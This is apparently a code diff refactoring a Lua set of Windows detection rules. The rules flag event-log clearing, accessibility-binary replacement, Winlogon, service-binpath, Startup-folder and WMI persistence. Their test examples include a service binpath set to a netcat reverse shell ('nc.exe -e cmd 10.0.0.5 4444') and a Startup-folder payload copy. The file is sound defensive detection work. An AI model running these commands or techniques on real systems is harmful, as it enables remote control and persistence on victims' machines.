@@ -3,12 +3,21 @@
 local rules = require "etwlua.rules"
 local m = require "etwlua.match"
 
-local function cl(p) return (p.command_line or ""):lower() end
+local function cl(p) return p.cl end
 -- the first of the plain (non-pattern) needles found in s, or nil
 local function any(s, list)
   for _, n in ipairs(list) do if s:find(n, 1, true) then return n end end
   return nil
 end
+local F1 = m.finder { "clearlog(", ".clear()", "cleareventlog", "globalsession.clearlog" }
+local F2 = m.finder { "eventlog", "eventing.reader", "nteventlogfile" }
+local F4 = m.finder { "copy ", "move ", "xcopy", "ren ", "rename", "takeown", "icacls", "copy-item", "replace " }
+local F5 = m.finder { "add", "set-itemproperty", "new-itemproperty" }
+local F6 = m.finder { " shell", "userinit", "notify", "taskman" }
+local F7 = m.finder { "cmd", "powershell", "\\users\\", "\\temp\\", "\\programdata\\", "rundll32", "mshta" }
+local F8 = m.finder { "copy", "move", "out-file", "set-content", "echo" }
+local F9 = m.finder { "commandlineeventconsumer", "activescripteventconsumer", "__filtertoconsumerbinding" }
+local F10 = m.finder { "create", "set-wmiinstance", "new-ciminstance", "new-object" }
 local S32 = [[C:\Windows\System32\]]
 local function X(name, command_line, parent, extra)
   local t = { image = name:find("\\", 1, true) and name or S32 .. name, command_line = command_line,
@@ -84,8 +93,8 @@ rules.define {
   falsepositives = { "Lab reset scripts" },
   match = function(p)
     local c = cl(p)
-    return any(c, { "clearlog(", ".clear()", "cleareventlog", "globalsession.clearlog" })
-      and any(c, { "eventlog", "eventing.reader", "nteventlogfile" })
+    return F1(c)
+      and F2(c)
   end,
   examples = {
     positive = { X("powershell.exe",
@@ -282,6 +291,7 @@ rules.define {
 
 local access = { "sethc.exe", "utilman.exe", "osk.exe", "magnify.exe", "narrator.exe", "displayswitch.exe",
                  "atbroker.exe" }
+local access_f = m.finder(access)
 local access_set = m.set(access)
 
 rules.define {
@@ -293,9 +303,9 @@ rules.define {
   falsepositives = { "None known" },
   match = function(p)
     local c = cl(p)
-    local who = any(c, access)
+    local who = access_f(c)
     if not who then return false end
-    return (any(c, { "copy ", "move ", "xcopy", "ren ", "rename", "takeown", "icacls", "copy-item", "replace " }) ~= nil),
+    return (F4(c) ~= nil),
       "touches " .. who
   end,
   examples = {
@@ -354,8 +364,8 @@ rules.define {
   falsepositives = { "Kiosk setups that replace the shell" },
   match = function(p)
     local c = cl(p)
-    return c:find("currentversion\\winlogon", 1, true) and any(c, { "add", "set-itemproperty", "new-itemproperty" })
-      and any(c, { " shell", "userinit", "notify", "taskman" })
+    return c:find("currentversion\\winlogon", 1, true) and F5(c)
+      and F6(c)
   end,
   examples = {
     positive = { X("reg.exe",
@@ -424,7 +434,7 @@ rules.define {
   match = function(p)
     local c = cl(p)
     return p.name == "sc.exe" and c:find(" config ", 1, true) and c:find("binpath", 1, true)
-      and any(c, { "cmd", "powershell", "\\users\\", "\\temp\\", "\\programdata\\", "rundll32", "mshta" })
+      and F7(c)
   end,
   examples = {
     positive = { X("sc.exe", [[sc config upnphost binpath= "C:\Users\Public\nc.exe -e cmd 10.0.0.5 4444"]]),
@@ -441,7 +451,7 @@ rules.define {
   falsepositives = { "Users adding shortcuts by script" },
   match = function(p)
     local c = cl(p)
-    return c:find("\\start menu\\programs\\startup", 1, true) and any(c, { "copy", "move", "out-file", "set-content", "echo" })
+    return c:find("\\start menu\\programs\\startup", 1, true) and F8(c)
   end,
   examples = {
     positive = { X("cmd.exe", [[cmd /c copy C:\t\a.exe "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\a.exe"]]) },
@@ -473,8 +483,8 @@ rules.define {
   falsepositives = { "Monitoring agents that install their own subscriptions" },
   match = function(p)
     local c = cl(p)
-    return any(c, { "commandlineeventconsumer", "activescripteventconsumer", "__filtertoconsumerbinding" })
-      and any(c, { "create", "set-wmiinstance", "new-ciminstance", "new-object" })
+    return F9(c)
+      and F10(c)
   end,
   examples = {
     positive = { X([[C:\Windows\System32\wbem\WMIC.exe]],
